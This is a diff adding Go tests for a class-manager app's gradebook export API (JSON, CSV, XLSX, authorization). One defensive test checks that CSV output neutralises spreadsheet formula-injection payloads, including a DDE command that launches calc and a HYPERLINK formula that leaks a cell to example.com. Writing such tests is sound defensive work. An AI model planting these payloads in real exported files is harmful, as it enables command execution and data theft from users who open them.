@@ -0,0 +1,259 @@
+package api
+
+import (
+	"bytes"
+	"database/sql"
+	"encoding/csv"
+	"encoding/json"
+	"fmt"
+	"net/http"
+	"net/http/httptest"
+	"testing"
+	"time"
+
+	mockdb "github.com/dongocanh96/class_manager_go/db/mock"
+	db "github.com/dongocanh96/class_manager_go/db/sqlc"
+	"github.com/dongocanh96/class_manager_go/util"
+	"github.com/golang/mock/gomock"
+	"github.com/stretchr/testify/require"
+	"github.com/xuri/excelize/v2"
+)
+
+func TestGradebookAPI(t *testing.T) {
+	teacher, _ := randomTeacherUser(t)
+	student1, _ := randomStudentUser(t)
+	student1.ID = teacher.ID + 1
+	student2, _ := randomStudentUser(t)
+	student2.ID = teacher.ID + 2
+	student3, _ := randomStudentUser(t)
+	student3.ID = teacher.ID + 3
+
+	homework1 := randomHomework(t, teacher.ID)
+	homework1.Title = "first"
+	homework1.MaxScore = 10
+	homework2 := randomHomework(t, teacher.ID)
+	homework2.ID = homework1.ID + 1
+	homework2.Title = "second"
+	homework2.MaxScore = 10
+	homework2.ClassID = sql.NullInt64{Int64: homework1.ClassID.Int64 + 1, Valid: true}
+
+	members := []db.ClassMember{
+		{ClassID: homework1.ClassID.Int64, UserID: student1.ID},
+		{ClassID: homework2.ClassID.Int64, UserID: student1.ID},
+		{ClassID: homework1.ClassID.Int64, UserID: student2.ID},
+		{ClassID: homework1.ClassID.Int64, UserID: student3.ID},
+		{ClassID: homework2.ClassID.Int64, UserID: student3.ID},
+	}
+
+	entries := []db.ListGradebookEntriesRow{
+		{
+			ID:         1,
+			ProblemID:  homework1.ID,
+			UserID:     student1.ID,
+			SubmitedAt: time.Now(),
+			Score:      sql.NullFloat64{Float64: 8, Valid: true},
+			IsReleased: sql.NullBool{Bool: true, Valid: true},
+		},
+		{
+			ID:          2,
+			ProblemID:   homework2.ID,
+			UserID:      student1.ID,
+			SubmitedAt:  time.Now(),
+			IsLate:      true,
+			LateSeconds: 3600,
+			LatePenalty: 50,
+			Score:       sql.NullFloat64{Float64: 6, Valid: true},
+			IsReleased:  sql.NullBool{Bool: false, Valid: true},
+		},
+		{
+			ID:         3,
+			ProblemID:  homework1.ID,
+			UserID:     student2.ID,
+			SubmitedAt: time.Now(),
+		},
+	}
+
+	buildStubs := func(store *mockdb.MockStore) {
+		store.EXPECT().ListGradebookHomeworks(gomock.Any(), gomock.Any()).
+			Times(1).
+			Return([]db.Homework{homework1, homework2}, nil)
+		store.EXPECT().ListGradebookStudents(gomock.Any(), gomock.Eq(teacher.ID)).
+			Times(1).
+			Return([]db.User{student1, student2, student3}, nil)
+		store.EXPECT().ListClassMembersByTeacher(gomock.Any(), gomock.Eq(teacher.ID)).
+			Times(1).
+			Return(members, nil)
+		store.EXPECT().ListGradebookEntries(gomock.Any(), gomock.Any()).
+			Times(1).
+			Return(entries, nil)
+	}
+
+	testCases := []struct {
+		name          string
+		userID        int64
+		role          string
+		query         string
+		buildStubs    func(store *mockdb.MockStore)
+		checkResponse func(t *testing.T, recorder *httptest.ResponseRecorder)
+	}{
+		{
+			name:       "JSON",
+			userID:     teacher.ID,
+			role:       util.RoleTeacher,
+			buildStubs: buildStubs,
+			checkResponse: func(t *testing.T, recorder *httptest.ResponseRecorder) {
+				require.Equal(t, http.StatusOK, recorder.Code)
+
+				var book gradebook
+				require.NoError(t, json.Unmarshal(recorder.Body.Bytes(), &book))
+				require.Len(t, book.Homeworks, 2)
+				require.Len(t, book.Rows, 3)
+
+				cells := book.Rows[0].Cells
+				require.Equal(t, gradebookReleased, cells[0].Status)
+				require.Equal(t, float64(8), *cells[0].FinalScore)
+				require.Equal(t, gradebookDraft, cells[1].Status)
+				require.True(t, cells[1].IsLate)
+				require.Equal(t, float64(3), *cells[1].FinalScore)
+
+				cells = book.Rows[1].Cells
+				require.Equal(t, gradebookSubmitted, cells[0].Status)
+				require.Nil(t, cells[0].Score)
+				require.Equal(t, gradebookNotAssigned, cells[1].Status)
+
+				cells = book.Rows[2].Cells
+				require.Equal(t, gradebookMissing, cells[0].Status)
+				require.Equal(t, gradebookMissing, cells[1].Status)
+			},
+		},
+		{
+			name:   "CSV",
+			userID: teacher.ID,
+			role:   util.RoleTeacher,
+			query:  "format=csv&subject=" + homework1.Subject + "&from=2022-01-01&to=2022-12-31",
+			buildStubs: func(store *mockdb.MockStore) {
+				store.EXPECT().ListSubjects(gomock.Any()).
+					Times(1).
+					Return([]db.Subject{{ID: 1, Name: homework1.Subject}}, nil)
+				buildStubs(store)
+			},
+			checkResponse: func(t *testing.T, recorder *httptest.ResponseRecorder) {
+				require.Equal(t, http.StatusOK, recorder.Code)
+				require.Equal(t, "text/csv; charset=utf-8", recorder.Header().Get("Content-Type"))
+
+				records, err := csv.NewReader(recorder.Body).ReadAll()
+				require.NoError(t, err)
+				require.Len(t, records, 4)
+				require.Equal(t, fmt.Sprintf("first (#%d)", homework1.ID), records[0][3])
+				require.Equal(t, []string{"8", "3 (late)"}, records[1][3:])
+				require.Equal(t, []string{"not graded", ""}, records[2][3:])
+				require.Equal(t, []string{"missing", "missing"}, records[3][3:])
+			},
+		},
+		{
+			name:       "XLSX",
+			userID:     teacher.ID,
+			role:       util.RoleTeacher,
+			query:      "format=xlsx",
+			buildStubs: buildStubs,
+			checkResponse: func(t *testing.T, recorder *httptest.ResponseRecorder) {
+				require.Equal(t, http.StatusOK, recorder.Code)
+				require.Equal(t, xlsxContentType, recorder.Header().Get("Content-Type"))
+
+				file, err := excelize.OpenReader(bytes.NewReader(recorder.Body.Bytes()))
+				require.NoError(t, err)
+				defer file.Close()
+
+				rows, err := file.GetRows("Gradebook")
+				require.NoError(t, err)
+				require.Len(t, rows, 4)
+				require.Equal(t, []string{"8", "3"}, rows[1][3:])
+				require.Equal(t, []string{"not graded"}, rows[2][3:])
+				require.Equal(t, []string{"missing", "missing"}, rows[3][3:])
+			},
+		},
+		{
+			name:   "InvalidFormat",
+			userID: teacher.ID,
+			role:   util.RoleTeacher,
+			query:  "format=pdf",
+			buildStubs: func(store *mockdb.MockStore) {
+				store.EXPECT().ListGradebookHomeworks(gomock.Any(), gomock.Any()).
+					Times(0)
+			},
+			checkResponse: func(t *testing.T, recorder *httptest.ResponseRecorder) {
+				require.Equal(t, http.StatusBadRequest, recorder.Code)
+			},
+		},
+		{
+			name:   "OtherUser",
+			userID: student1.ID,
+			role:   util.RoleStudent,
+			buildStubs: func(store *mockdb.MockStore) {
+				store.EXPECT().ListGradebookHomeworks(gomock.Any(), gomock.Any()).
+					Times(0)
+			},
+			checkResponse: func(t *testing.T, recorder *httptest.ResponseRecorder) {
+				require.Equal(t, http.StatusUnauthorized, recorder.Code)
+			},
+		},
+	}
+
+	for i := range testCases {
+		tc := testCases[i]
+
+		t.Run(tc.name, func(t *testing.T) {
+			ctrl := gomock.NewController(t)
+			defer ctrl.Finish()
+
+			store := mockdb.NewMockStore(ctrl)
+			tc.buildStubs(store)
+
+			server := newTestServer(t, store)
+			recorder := httptest.NewRecorder()
+
+			url := fmt.Sprintf("/users/%d/gradebook?%s", teacher.ID, tc.query)
+			request, err := http.NewRequest(http.MethodGet, url, nil)
+			require.NoError(t, err)
+
+			addAuthorization(t, request, server.tokenMaker,
+				authorizationTypeBearer, tc.userID, teacher.Username.String, tc.role,
+				time.Minute*15)
+			server.router.ServeHTTP(recorder, request)
+			tc.checkResponse(t, recorder)
+		})
+	}
+}
+
+func TestWriteGradebookCSVFormula(t *testing.T) {
+	score := 8.0
+	book := gradebook{
+		Homeworks: []gradebookHomework{{ID: 1, Title: "+cmd|' /C calc'!A0"}},
+		Rows: []gradebookRow{
+			{
+				StudentID: 2,
+				Username:  "student",
+				Fullname:  `=HYPERLINK("http://example.com/?leak="&A1,"click")`,
+				Cells:     []gradebookCell{{HomeworkID: 1, Status: gradebookReleased, FinalScore: &score}},
+			},
+			{
+				StudentID: 3,
+				Username:  "other",
+				Fullname:  "-2+3",
+				Cells:     []gradebookCell{{HomeworkID: 1, Status: gradebookMissing}},
+			},
+		},
+	}
+
+	var buffer bytes.Buffer
+	require.NoError(t, writeGradebookCSV(&buffer, book))
+
+	records, err := csv.NewReader(&buffer).ReadAll()
+	require.NoError(t, err)
+	require.Len(t, records, 3)
+
+	// user text is kept but can no longer start a formula
+	require.Equal(t, "'+cmd|' /C calc'!A0 (#1)", records[0][3])
+	require.Equal(t, []string{"2", "student", `'=HYPERLINK("http://example.com/?leak="&A1,"click")`, "8"}, records[1])
+	require.Equal(t, []string{"3", "other", "'-2+3", "missing"}, records[2])
+}